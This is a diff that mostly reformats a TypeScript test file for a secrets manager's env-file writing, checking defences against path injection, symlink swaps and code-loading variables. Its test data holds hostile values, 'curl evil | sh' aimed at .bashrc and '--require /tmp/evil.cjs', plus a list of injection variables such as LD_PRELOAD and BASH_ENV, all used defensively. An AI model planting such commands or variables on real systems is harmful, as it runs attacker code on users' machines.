@@ -1,5 +1,13 @@
 /** What a page that was taken over can write, and where: the app's own dispatcher over a real core and real files. */
-import { existsSync, mkdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
+import {
+  existsSync,
+  mkdirSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs'
 import { join } from 'node:path'
 import { parse } from 'dotenv'
 import { beforeEach, describe, expect, it, onTestFinished } from 'vitest'
@@ -37,9 +45,18 @@ beforeEach(async () => {
   })
 })
 
-const ask = async <R extends Route>(route: R, input: Input<R>): Promise<Result<Output<R>>> => (await subject.dispatch(route, input)) as Result<Output<R>>
+const ask = async <R extends Route>(route: R, input: Input<R>): Promise<Result<Output<R>>> =>
+  (await subject.dispatch(route, input)) as Result<Output<R>>
 const importOne = async (name: string, secret: string): Promise<string> =>
-  must(await ask('keys.import', { name, accountId: yourAccount(subject.test.keyreeve), environment: 'test', expiration: 'never', secret })).id
+  must(
+    await ask('keys.import', {
+      name,
+      accountId: yourAccount(subject.test.keyreeve),
+      environment: 'test',
+      expiration: 'never',
+      secret,
+    }),
+  ).id
 const pick = async (id: string, path: string): Promise<string> => {
   picked = path
   return must(await ask('deliveries.pickEnvFile', { id }))?.handle ?? ''
@@ -48,31 +65,57 @@ const pick = async (id: string, path: string): Promise<string> => {
 it('takes no path from the page, under any name', async () => {
   const id = await importOne('evil', 'curl evil | sh')
   const target = join(folder, '.bashrc')
-  for (const input of [{ id, path: target, variable: 'A' }, { id, path: target, realPath: target, variable: 'A' }, { id, file: target, path: target, variable: 'A' }]) {
-    expect(await subject.dispatch('deliveries.writeEnv', input)).toMatchObject({ ok: false, error: { code: 'invalid_input' } })
+  for (const input of [
+    { id, path: target, variable: 'A' },
+    { id, path: target, realPath: target, variable: 'A' },
+    { id, file: target, path: target, variable: 'A' },
+  ]) {
+    expect(await subject.dispatch('deliveries.writeEnv', input)).toMatchObject({
+      ok: false,
+      error: { code: 'invalid_input' },
+    })
   }
-  expect(await subject.dispatch('deliveries.pickEnvFile', { id, path: target })).toMatchObject({ ok: false, error: { code: 'invalid_input' } })
-  expect(await subject.dispatch('deliveries.inspectEnvFile', { path: target })).toMatchObject({ ok: false, error: { code: 'unknown_route' } })
+  expect(await subject.dispatch('deliveries.pickEnvFile', { id, path: target })).toMatchObject({
+    ok: false,
+    error: { code: 'invalid_input' },
+  })
+  expect(await subject.dispatch('deliveries.inspectEnvFile', { path: target })).toMatchObject({
+    ok: false,
+    error: { code: 'unknown_route' },
+  })
   for (const file of [target, 'x'.repeat(22), `${await pick(id, join(folder, '.env'))}x`]) {
-    expect(await ask('deliveries.writeEnv', { id, file, variable: 'A' })).toMatchObject({ ok: false, error: { code: 'not_found', field: 'file' } })
+    expect(await ask('deliveries.writeEnv', { id, file, variable: 'A' })).toMatchObject({
+      ok: false,
+      error: { code: 'not_found', field: 'file' },
+    })
   }
   expect(existsSync(target)).toBe(false)
 })
 
 it('writes to the file that the dialog gave, and to no other that has taken its place', async () => {
   const id = await importOne('key', 'value-1')
-  const [real, other, link] = ['real.env', 'other.env', 'link.env'].map((name) => join(folder, name)) as [string, string, string]
+  const [real, other, link] = ['real.env', 'other.env', 'link.env'].map((name) => join(folder, name)) as [
+    string,
+    string,
+    string,
+  ]
   for (const file of [real, other]) writeFileSync(file, 'A=old\n')
   symlinkSync(real, link)
   const handle = await pick(id, link)
   rmSync(link)
   symlinkSync(other, link)
-  expect(must(await ask('deliveries.writeEnv', { id, file: handle, variable: 'A' }))).toMatchObject({ path: real, replaced: true })
+  expect(must(await ask('deliveries.writeEnv', { id, file: handle, variable: 'A' }))).toMatchObject({
+    path: real,
+    replaced: true,
+  })
   expect([parse(readFileSync(real)), readFileSync(other, 'utf8')]).toEqual([{ A: 'value-1' }, 'A=old\n'])
   // The file itself has become a link to another.
   rmSync(real)
   symlinkSync(other, real)
-  expect(await ask('deliveries.writeEnv', { id, file: handle, variable: 'A' })).toMatchObject({ ok: false, error: { code: 'env_changed' } })
+  expect(await ask('deliveries.writeEnv', { id, file: handle, variable: 'A' })).toMatchObject({
+    ok: false,
+    error: { code: 'env_changed' },
+  })
   expect(readFileSync(other, 'utf8')).toBe('A=old\n')
 })
 
@@ -83,21 +126,46 @@ it('forgets every handle with the page, gives each file another, and suggests wh
   expect(new Set(handles).size).toBe(2)
   must(await ask('deliveries.writeEnv', { id, file: handles[0] ?? '', variable: 'A' }))
   files.clear()
-  for (const handle of handles) expect(await ask('deliveries.writeEnv', { id, file: handle, variable: 'B' })).toMatchObject({ ok: false, error: { code: 'not_found' } })
+  for (const handle of handles)
+    expect(await ask('deliveries.writeEnv', { id, file: handle, variable: 'B' })).toMatchObject({
+      ok: false,
+      error: { code: 'not_found' },
+    })
   expect(parse(readFileSync(file))).toEqual({ A: 'value-1' })
   await pick(id, file)
   expect(asked.suggested).toEqual([null, null, realpathSync(file)])
 })
 
 describe('variables that make programs load code', () => {
-  it.each(['PATH', 'Path', 'LD_PRELOAD', 'LD_AUDIT', 'DYLD_INSERT_LIBRARIES', 'NODE_OPTIONS', 'BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'PYTHONSTARTUP', 'PERL5OPT', 'RUBYOPT', 'GIT_SSH_COMMAND', 'JAVA_TOOL_OPTIONS', 'npm_config_script_shell'])('%s is written only after a yes in the system’s dialog', async (variable) => {
+  it.each([
+    'PATH',
+    'Path',
+    'LD_PRELOAD',
+    'LD_AUDIT',
+    'DYLD_INSERT_LIBRARIES',
+    'NODE_OPTIONS',
+    'BASH_ENV',
+    'ENV',
+    'PROMPT_COMMAND',
+    'PYTHONSTARTUP',
+    'PERL5OPT',
+    'RUBYOPT',
+    'GIT_SSH_COMMAND',
+    'JAVA_TOOL_OPTIONS',
+    'npm_config_script_shell',
+  ])('%s is written only after a yes in the system’s dialog', async (variable) => {
     const id = await importOne('evil', '--require /tmp/evil.cjs')
     const file = join(folder, '.env')
     const handle = await pick(id, file)
     for (const confirmed of [{}, { confirmed: true }]) {
-      expect(await ask('deliveries.writeEnv', { id, file: handle, variable, ...confirmed })).toMatchObject({ ok: false, error: { code: 'confirmation_required', field: 'variable' } })
+      expect(await ask('deliveries.writeEnv', { id, file: handle, variable, ...confirmed })).toMatchObject({
+        ok: false,
+        error: { code: 'confirmation_required', field: 'variable' },
+      })
     }
-    expect(await subject.dispatch('deliveries.writeEnv', { id, file: handle, variable, codeConfirmed: true })).toMatchObject({ ok: false, error: { code: 'invalid_input' } })
+    expect(
+      await subject.dispatch('deliveries.writeEnv', { id, file: handle, variable, codeConfirmed: true }),
+    ).toMatchObject({ ok: false, error: { code: 'invalid_input' } })
     expect(existsSync(file)).toBe(false)
     expect(asked.code).toEqual([`${variable} in ${file}`, `${variable} in ${file}`])
     allowsCode = true
@@ -105,7 +173,18 @@ describe('variables that make programs load code', () => {
     expect(parse(readFileSync(file))).toEqual({ [variable]: '--require /tmp/evil.cjs' })
   })
 
-  it.each(['API_KEY', 'EVENT_SERVICE_API_KEY', 'STRIPE_SECRET_KEY', 'GIT_TOKEN', 'NPM_TOKEN', 'YARN_NPM_AUTH_TOKEN', 'CARGO_REGISTRY_TOKEN', 'PATH_KEY', 'MY_LD_PRELOAD', 'OLD_TOKEN'])('%s is an ordinary variable', async (variable) => {
+  it.each([
+    'API_KEY',
+    'EVENT_SERVICE_API_KEY',
+    'STRIPE_SECRET_KEY',
+    'GIT_TOKEN',
+    'NPM_TOKEN',
+    'YARN_NPM_AUTH_TOKEN',
+    'CARGO_REGISTRY_TOKEN',
+    'PATH_KEY',
+    'MY_LD_PRELOAD',
+    'OLD_TOKEN',
+  ])('%s is an ordinary variable', async (variable) => {
     const id = await importOne('key', 'value-1')
     must(await ask('deliveries.writeEnv', { id, file: await pick(id, join(folder, '.env')), variable }))
     expect(asked.code).toEqual([])
@@ -120,16 +199,29 @@ it('refuses Keyreeve’s own folders as the place of a file: as they are, throug
   mkdirSync(join(home, 'deep', 'er'), { recursive: true })
   symlinkSync(join(home, 'new.env'), join(folder, 'file-link.env'))
   writeFileSync(join(home, 'new.env'), 'A=1\n')
-  for (const path of [join(home, '.env'), join(home, 'deep/er/.env'), join(link, '.env'), join(link, 'deep/../deep/er/.env'), join(folder, 'file-link.env'), join(home, 'new.env')]) {
+  for (const path of [
+    join(home, '.env'),
+    join(home, 'deep/er/.env'),
+    join(link, '.env'),
+    join(link, 'deep/../deep/er/.env'),
+    join(folder, 'file-link.env'),
+    join(home, 'new.env'),
+  ]) {
     picked = path
-    expect(await ask('deliveries.pickEnvFile', { id }), path).toMatchObject({ ok: false, error: { code: 'env_not_a_file', message: expect.stringContaining('own folders') as unknown } })
+    expect(await ask('deliveries.pickEnvFile', { id }), path).toMatchObject({
+      ok: false,
+      error: { code: 'env_not_a_file', message: expect.stringContaining('own folders') as unknown },
+    })
   }
   mkdirSync(join(folder, 'project'))
   const handle = await pick(id, join(folder, 'project/.env'))
   rmSync(join(folder, 'project'), { recursive: true })
   symlinkSync(home, join(folder, 'project'))
   expect((await ask('deliveries.writeEnv', { id, file: handle, variable: 'A' })).ok).toBe(false)
-  expect([existsSync(join(home, '.env')), readFileSync(join(home, 'new.env'), 'utf8')]).toEqual([false, 'A=1\n'])
+  expect([existsSync(join(home, '.env')), readFileSync(join(home, 'new.env'), 'utf8')]).toEqual([
+    false,
+    'A=1\n',
+  ])
   // Control: beside it there is nothing against a file.
   expect(await pick(id, join(folder, 'beside.env'))).not.toBe('')
 })
@@ -144,12 +236,19 @@ describe('a place that we wrote to', () => {
     const place = await placeOf(old)
     expect(place).toMatchObject({ path: file, variable: 'A', keyId: old })
     files.clear()
-    for (const placeId of ['', file, `${place?.id}x`]) expect((await ask('deliveries.writePlace', { id: by, keyId: old, placeId: placeId || 'x' })).ok).toBe(false)
-    expect(await ask('deliveries.writePlace', { id: by, keyId: by, placeId: place?.id ?? '' })).toMatchObject({ ok: false, error: { code: 'not_found' } })
+    for (const placeId of ['', file, `${place?.id}x`])
+      expect((await ask('deliveries.writePlace', { id: by, keyId: old, placeId: placeId || 'x' })).ok).toBe(
+        false,
+      )
+    expect(await ask('deliveries.writePlace', { id: by, keyId: by, placeId: place?.id ?? '' })).toMatchObject(
+      { ok: false, error: { code: 'not_found' } },
+    )
     must(await ask('deliveries.writePlace', { id: by, keyId: old, placeId: place?.id ?? '' }))
     expect(parse(readFileSync(file))).toEqual({ A: 'value-2' })
     // It is the new key's place now.
-    expect(await ask('deliveries.writePlace', { id: by, keyId: old, placeId: place?.id ?? '' })).toMatchObject({ ok: false, error: { code: 'not_found' } })
+    expect(
+      await ask('deliveries.writePlace', { id: by, keyId: old, placeId: place?.id ?? '' }),
+    ).toMatchObject({ ok: false, error: { code: 'not_found' } })
   })
 
   it('is not written when its variable is gone, when it leads elsewhere, or for a key of another account', async () => {
@@ -157,15 +256,34 @@ describe('a place that we wrote to', () => {
     const [file, other] = [join(folder, '.env'), join(folder, 'other.env')]
     must(await ask('deliveries.writeEnv', { id: old, file: await pick(old, file), variable: 'A' }))
     const placeId = (await placeOf(old))?.id ?? ''
-    const account = must(await ask('accounts.create', { type: 'service_account', name: 'other', roles: ['all_reader'] }))
-    const foreign = must(await ask('keys.import', { name: 'foreign', accountId: account.id, environment: 'test', expiration: 'never', secret: 'value-3' }))
-    expect(await ask('deliveries.writePlace', { id: foreign.id, keyId: old, placeId })).toMatchObject({ ok: false, error: { code: 'conflict' } })
+    const account = must(
+      await ask('accounts.create', { type: 'service_account', name: 'other', roles: ['all_reader'] }),
+    )
+    const foreign = must(
+      await ask('keys.import', {
+        name: 'foreign',
+        accountId: account.id,
+        environment: 'test',
+        expiration: 'never',
+        secret: 'value-3',
+      }),
+    )
+    expect(await ask('deliveries.writePlace', { id: foreign.id, keyId: old, placeId })).toMatchObject({
+      ok: false,
+      error: { code: 'conflict' },
+    })
     writeFileSync(file, 'B=1\n')
-    expect(await ask('deliveries.writePlace', { id: by, keyId: old, placeId })).toMatchObject({ ok: false, error: { code: 'env_changed' } })
+    expect(await ask('deliveries.writePlace', { id: by, keyId: old, placeId })).toMatchObject({
+      ok: false,
+      error: { code: 'env_changed' },
+    })
     writeFileSync(other, 'A=1\n')
     rmSync(file)
     symlinkSync(other, file)
-    expect(await ask('deliveries.writePlace', { id: by, keyId: old, placeId })).toMatchObject({ ok: false, error: { code: 'env_changed' } })
+    expect(await ask('deliveries.writePlace', { id: by, keyId: old, placeId })).toMatchObject({
+      ok: false,
+      error: { code: 'env_changed' },
+    })
     expect(readFileSync(other, 'utf8')).toBe('A=1\n')
   })
 })
